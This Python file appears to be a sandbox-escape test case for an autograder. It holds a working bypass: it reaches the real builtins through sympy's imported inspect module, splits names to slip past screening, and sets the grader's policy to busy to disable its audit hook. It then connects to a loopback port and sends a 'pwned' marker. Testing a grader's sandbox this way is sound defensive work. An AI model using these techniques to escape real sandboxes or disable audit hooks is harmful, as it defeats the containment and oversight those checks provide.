"""effect: network
tries: route 2 (busy), then a TCP connection to [::1]:47474 that sends 'pwned-<name>'.

IPv6 loopback.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.assumptions.assume import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    socket = B["_" + "_import_" + "_"]("socket")
    connection = socket.create_connection(("::1", 47474), timeout=3)
    connection.sendall(b"pwned-r2_socket_ipv6")
    connection.close()


# route 2: lagrade replaces sympy's parse_expr by a closure over the hook's policy object;
# inspect.getclosurevars reads __closure__ (not audited) and hands the policy over. busy = True
# makes the hook return at once for every event, for the rest of the run.
parser = members(sys_)["modules"].get("sympy.pars" + "ing.sympy_parser")
policy = inspect.getclosurevars(members(parser)["parse_expr"]).nonlocals.get("policy") if parser else None
if policy is not None:
    policy.busy = True
work()
